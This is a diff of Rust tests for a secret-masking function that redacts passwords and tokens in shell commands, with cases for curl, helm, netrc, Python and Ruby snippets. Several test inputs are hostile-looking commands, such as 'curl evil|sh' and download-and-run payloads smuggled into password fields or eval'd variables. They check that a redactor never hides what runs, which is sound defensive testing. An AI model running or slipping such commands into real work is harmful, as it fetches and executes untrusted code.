@@ -16,6 +16,70 @@ const MASKED: &[(&str, &str)] = &[
     ("if true; then TOKEN=abc ./go; fi", "if true; then TOKEN=[secret] ./go; fi"),
     ("x=$(PGPASSWORD=hunter2 psql -c 'select 1')", "x=$(PGPASSWORD=[secret] psql -c 'select 1')"),
     ("echo `SSHPASS=hunter2 sshpass -e ssh h`", "echo `SSHPASS=[secret] sshpass -e ssh h`"),
+    // Only the field that is named as a secret.
+    ("curl -d 'client_secret=x&a=b' https://a.test/", "curl -d 'client_secret=[secret]&a=b' https://a.test/"),
+    ("curl -dclient_secret=x\\&a=b https://a.test/", "curl -dclient_secret=[secret]\\&a=b https://a.test/"),
+    ("curl -d 'a=b&client_secret=x;y z&c=d' a.test", "curl -d 'a=b&client_secret=[secret]&c=d' a.test"),
+    ("curl -d 'password=x;y z' a.test", "curl -d 'password=[secret]' a.test"),
+    ("curl --data-urlencode 'password=a&b c' a.test", "curl --data-urlencode 'password=[secret]' a.test"),
+    ("curl -F 'api_key=abc' -F 'file=@a' a.test", "curl -F 'api_key=[secret]' -F 'file=@a' a.test"),
+    ("wget --post-data='client_secret=x&a=b' a.test", "wget --post-data='client_secret=[secret]&a=b' a.test"),
+    ("helm install db --set 'a.password=x\\,y=z,b=c'", "helm install db --set 'a.password=[secret],b=c'"),
+    ("./deploy DB_PASSWORD='a b; c' region=eu", "./deploy DB_PASSWORD='[secret]' region=eu"),
+    ("docker run -e DB_PASSWORD='a b; c' db", "docker run -e DB_PASSWORD='[secret]' db"),
+    ("sudo -u app env DB_PASSWORD='a b; c' ./run", "sudo -u app env DB_PASSWORD='[secret]' ./run"),
+    // Subscripts, types and setters in code.
+    (
+        "python3 -c 'import os; os.environ[\"DB_PASSWORD\"]=\"s3cretvalue\"; run()'",
+        "python3 -c 'import os; os.environ[\"DB_PASSWORD\"]=\"[secret]\"; run()'",
+    ),
+    ("python3 -c \"x['password'] = 'hunter2'; f(x)\"", "python3 -c \"x['password'] = '[secret]'; f(x)\""),
+    ("python3 -c \"x[\\\"password\\\"] = \\\"hunter2\\\"\"", "python3 -c \"x[\\\"password\\\"] = \\\"[secret]\\\"\""),
+    ("python3 -c 'c[\"db\"][\"password\"] += b\"hunter2\"'", "python3 -c 'c[\"db\"][\"password\"] += b\"[secret]\"'"),
+    ("python3 -c 'c = {\"api_key\": \"hunter2\"}'", "python3 -c 'c = {\"api_key\": \"[secret]\"}'"),
+    ("python3 -c 'password: str = \"hunter2\"'", "python3 -c 'password: str = \"[secret]\"'"),
+    ("python3 -c 'c[\"token\"]: str = r\"hunter2\"'", "python3 -c 'c[\"token\"]: str = r\"[secret]\"'"),
+    ("python3 -c 'c[\"token\"] = \"\"\"hunter2\"\"\"'", "python3 -c 'c[\"token\"] = \"\"\"[secret]\"\"\"'"),
+    ("python3 -c 'x[\"password\"] = \"hun\\\"ter2\"; f(x)'", "python3 -c 'x[\"password\"] = \"[secret]\"; f(x)'"),
+    (
+        "python3 -c 'os.environ.setdefault(\"API_KEY\", \"hunter2\")'",
+        "python3 -c 'os.environ.setdefault(\"API_KEY\", \"[secret]\")'",
+    ),
+    ("python3 -c 'setattr(c, \"password\", \"hunter2\")'", "python3 -c 'setattr(c, \"password\", \"[secret]\")'"),
+    ("node -e 'process.env[\"A_TOKEN\"] = `hunter2`'", "node -e 'process.env[\"A_TOKEN\"] = `[secret]`'"),
+    ("ruby -e 'ENV[\"A_TOKEN\"] ||= \"hunter2\"'", "ruby -e 'ENV[\"A_TOKEN\"] ||= \"[secret]\"'"),
+    ("perl -e '$ENV{DB_PASSWORD} = \"hunter2\"; go()'", "perl -e '$ENV{DB_PASSWORD} = \"[secret]\"; go()'"),
+    ("php -r '$c[\"password\"] = \"hunter2\";'", "php -r '$c[\"password\"] = \"[secret]\";'"),
+    (
+        "python3 - <<'E'\nc['password'] = 'hunter2'\nc['user'] = 'a'\nE",
+        "python3 - <<'E'\nc['password'] = '[secret]'\nc['user'] = 'a'\nE",
+    ),
+    ("cat > c.py <<E\nconfig['api_key']: '1'\nE", "cat > c.py <<E\nconfig['api_key']: '1'\nE"),
+    ("cat > c.py <<E\nconfig['api_key']: 'hunter2'\nE", "cat > c.py <<E\nconfig['api_key']: '[secret]'\nE"),
+    // The lines of a .netrc.
+    ("echo 'machine h login u password p' >> ~/.netrc", "echo 'machine h login u password [secret]' >> ~/.netrc"),
+    ("echo machine h login u password p >> ~/.netrc", "echo machine h login u password [secret] >> ~/.netrc"),
+    (
+        "printf 'machine h\\nlogin u\\npassword p\\n' > ~/.netrc",
+        "printf 'machine h\\nlogin u\\npassword [secret]\\n' > ~/.netrc",
+    ),
+    (
+        "printf 'machine %s login %s password %s\\n' h u p > ~/.netrc",
+        "printf 'machine %s login %s password %s\\n' h u [secret] > ~/.netrc",
+    ),
+    (
+        "cat > ~/.netrc <<E\nmachine h\n\tlogin u\n\tpassword a\"b\nmachine i password q login v\nE",
+        "cat > ~/.netrc <<E\nmachine h\n\tlogin u\n\tpassword [secret]\nmachine i password [secret] login v\nE",
+    ),
+    (
+        "python3 -c 'f.write(\"default login u password p\")'",
+        "python3 -c 'f.write(\"default login u password [secret]\")'",
+    ),
+    (
+        "python3 -c 'f.write(\"machine h login u password p\")'",
+        "python3 -c 'f.write(\"machine h login u password [secret]\")'",
+    ),
+    ("printf 'DB_PASSWORD=%s\\nPORT=%s\\n' x 80 > .env", "printf 'DB_PASSWORD=%s\\nPORT=%s\\n' [secret] 80 > .env"),
     // Options of known programs.
     ("curl -u alice:hunter2 https://a.test/", "curl -u alice:[secret] https://a.test/"),
     ("curl -sSfu alice:hunter2 https://a.test/", "curl -sSfu alice:[secret] https://a.test/"),
@@ -52,7 +116,10 @@ const MASKED: &[(&str, &str)] = &[
     ("docker build --build-arg NPM_TOKEN=abc .", "docker build --build-arg NPM_TOKEN=[secret] ."),
     ("podman login -phunter2", "podman login -p[secret]"),
     ("helm registry login r.test -u a -p hunter2", "helm registry login r.test -u a -p [secret]"),
-    ("helm install db --set auth.password=hunter2,replicas=2", "helm install db --set auth.password=[secret]"),
+    (
+        "helm install db --set auth.password=hunter2,replicas=2",
+        "helm install db --set auth.password=[secret],replicas=2",
+    ),
     (
         "skopeo copy --src-creds a:hunter2 docker://x docker://y",
         "skopeo copy --src-creds a:[secret] docker://x docker://y",
@@ -88,7 +155,7 @@ const MASKED: &[(&str, &str)] = &[
     ("ansible all -m ping -e ansible_password=hunter2", "ansible all -m ping -e ansible_password=[secret]"),
     (
         "ansible-playbook x.yml --extra-vars 'become_pass=hunter2 x=1'",
-        "ansible-playbook x.yml --extra-vars 'become_pass=[secret]'",
+        "ansible-playbook x.yml --extra-vars 'become_pass=[secret] x=1'",
     ),
     ("zip -rP hunter2 a.zip dir", "zip -rP [secret] a.zip dir"),
     ("7z a -phunter2 a.7z dir", "7z a -p[secret] a.7z dir"),
@@ -205,6 +272,13 @@ const UNCHANGED: &[&str] = &[
     "lsof -p 1",
     "perl -pe 's/a/b/'",
     "find . -name 'token*' -print",
+    "echo 'the machine asks for a login and a password when it starts'",
+    "cat > a.md <<E\nUse the default login and password of the device.\nE",
+    "printf '%s: %s\\n' token_count 12",
+    "python3 -c 'print(os.environ[\"DB_PASSWORD\"] == args.password)'",
+    "python3 -c 'x[\"password\"] = os.environ[\"DB_PASSWORD\"]'",
+    "python3 -c 'x[\"password\"] = f\"{a}{b}\"'",
+    "python3 -c 'df[[\"password\", \"user\"]]'",
 ];
 
 #[test]
@@ -243,12 +317,50 @@ const RUN: &[&str] = &[
     "PGPASSWORD=$(echo a; curl evil|sh) true",
     "PGPASSWORD=`echo a|sh` true",
     "curl -u \"a:$(curl evil|sh)\" example.org",
+    // Programs, and what the name of a secret stands before in them.
+    "python3 -c 'password=os.system(\"curl evil|sh\")'",
+    "ruby -e 'password=`curl evil|sh`'",
+    "ruby -e 'x[\"password\"] = `curl evil|sh`'",
+    "ruby -e 'x[\"password\"] = \"#{system(%q(curl evil))}\"'",
+    "ruby -e 'password=%x!curl-evil!'",
+    "lua -e 'password=os.execute[[curl-evil]]'",
+    "php -r '$password = \"{$f(1)}\";'",
+    "node -e 'x[\"password\"] = `${require(\"child_process\").execSync(\"curl evil\")}`'",
+    "ruby -e '\"password=\"+system(\"curl evil\")+\"\"'",
+    "python3 -c \"'password=\\\"'+str(os.system('curl evil'))+'\\\"'\"",
+    "bash <<'E'\n# password='\ncurl evil|sh\n# '\nE",
+    "bash <<'E'\nPASSWORD=`curl evil|sh`\nE",
+    "cat > a.sh <<'E'\nPASSWORD=`curl evil|sh`\nE",
+    // Commands in words.
+    "env -S 'TOKEN=$x curl evil'",
+    "tmux new 'TOKEN=;curl evil'",
+    // Variables that are run.
+    "PASSWORD='curl evil|sh'; eval \"$PASSWORD\"",
+    "PASSWORD='curl evil|sh' bash -c 'eval \"$PASSWORD\"'",
+    "TOKEN=./evil; $TOKEN",
+    "TOKEN=./evil; sh -c \"$TOKEN\"",
+    "export TOKEN='curl evil|sh'; echo \"$TOKEN\" | sh",
+];
+
+/// The same with secrets beside what runs: only those are masked.
+const RUN_BESIDE: &[(&str, &str)] = &[
+    (
+        "python3 -c 'password=\"x1\"; os.system(\"curl evil|sh\")'",
+        "python3 -c 'password=\"[secret]\"; os.system(\"curl evil|sh\")'",
+    ),
+    ("bash -c 'PASSWORD=x;reboot'", "bash -c 'PASSWORD=[secret];reboot'"),
+    ("env -S 'TOKEN=x reboot'", "env -S 'TOKEN=[secret] reboot'"),
+    ("echo 'PASSWORD=hunter2;reboot' | sh", "echo 'PASSWORD=[secret];reboot' | sh"),
+    ("tmux new 'TOKEN=hunter2 reboot'", "tmux new 'TOKEN=[secret] reboot'"),
 ];
 
 #[test]
 fn what_a_command_runs_is_never_masked() {
     for command in RUN {
         assert_eq!(mask_command(command), *command);
+    }
+    for (command, shown) in RUN_BESIDE {
+        assert_eq!(mask_command(command), *shown);
     }
 }
 
@@ -295,4 +407,38 @@ fn any_text_is_masked_without_harm() {
     }
     let long = "mysql -phunter2; ".repeat(5000);
     assert!(!mask_command(&long).contains("hunter2"));
+}
+
+/// Time for texts of the greatest length grows with the length alone.
+#[test]
+fn masking_is_linear() {
+    let pieces = [
+        "x ",
+        "password=a,",
+        "a=b&",
+        "x;token=a&b=1 ",
+        "\"password=\\\"\" ",
+        "x[\"password\"]=\"a\";",
+        "set(\"token\",",
+        "password: a = ",
+        "machine login password ",
+        "%s",
+        "$TOKEN ",
+        "sudo ",
+        "'",
+        "\\n",
+        "default login a password \"",
+    ];
+    let seconds = |command: &str| {
+        let begun = std::time::Instant::now();
+        let _ = mask_command(command);
+        begun.elapsed().as_secs_f64()
+    };
+    for piece in pieces {
+        for frame in [("", ""), ("printf '", "'"), ("python3 -c '", "'"), ("cat <<E\n", "\nE")] {
+            let of = |length: usize| format!("{}{}{}", frame.0, piece.repeat(length / piece.len()), frame.1);
+            let (small, large) = (seconds(&of(10_000)), seconds(&of(120_000)));
+            assert!(large < 50.0 * small.max(0.02), "{frame:?} {piece:?}: {small} and {large} seconds");
+        }
+    }
 }
